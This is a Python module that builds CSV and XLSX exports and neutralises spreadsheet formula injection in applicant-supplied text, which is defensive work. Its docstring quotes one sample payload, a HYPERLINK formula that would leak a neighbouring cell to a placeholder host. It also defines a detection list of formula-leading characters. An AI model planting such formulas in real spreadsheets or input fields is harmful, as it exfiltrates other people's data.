"""Pure builders: header and rows in, file bytes out (no database, no request).

Every text cell of every export passes through here and is neutralised against formula injection
(OWASP, "CSV injection"): a name such as `=HYPERLINK("http://x/?"&A2,"y")` typed by an applicant must
reach the secretariat's spreadsheet as text, never as a live formula. Numbers stay numbers."""

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

# A spreadsheet reads a cell starting with one of these as a formula; the full-width forms are folded to ASCII
# by some versions. It skips blanks before them (spaces, no-break spaces, tabs and line breaks, a byte-order
# mark, zero-width and other invisible characters), so a cell is formula-like when one of these comes first
# once the blanks are set aside. A cell starting with a tab, CR or LF is neutralised whatever follows.
FORMULA_LEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
ALWAYS_NEUTRALISED = ("\t", "\r", "\n")
BLANK_CATEGORIES = {"Zs", "Zl", "Zp", "Cc", "Cf"}  # separators, control and format (invisible) characters


def _after_blanks(text: str) -> str:
    index = 0
    while index < len(text) and (text[index].isspace() or unicodedata.category(text[index]) in BLANK_CATEGORIES):
        index += 1
    return text[index:]


def is_formula_like(value) -> bool:
    return isinstance(value, str) and (value.startswith(ALWAYS_NEUTRALISED)
                                       or _after_blanks(value).startswith(FORMULA_LEADS))


def csv_text(value):
    """A CSV cell: a formula-like text gets a leading `'` (shown by Excel as text, never evaluated)."""
    return "'" + value if is_formula_like(value) else value


def _xlsx_cell(sheet, value, *, bold: bool = False):
    """A plain value, or a cell: a formula-like text is written as a string cell with Excel's quote prefix
    (openpyxl would otherwise store a text starting with `=` as a formula). Control characters that XML cannot
    hold are left out (openpyxl would refuse the whole file)."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not (bold or is_formula_like(value)):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
    """One worksheet per (title, header, rows), in openpyxl's write-only mode (constant memory)."""
    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title=title[:31])
        sheet.append([_xlsx_cell(sheet, name, bold=True) for name in header])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a byte-order mark so that Excel shows Vietnamese correctly."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow([csv_text(name) for name in header])
    writer.writerows([csv_text(value) for value in row] for row in rows)
    return ("\ufeff" + text.getvalue()).encode("utf-8")
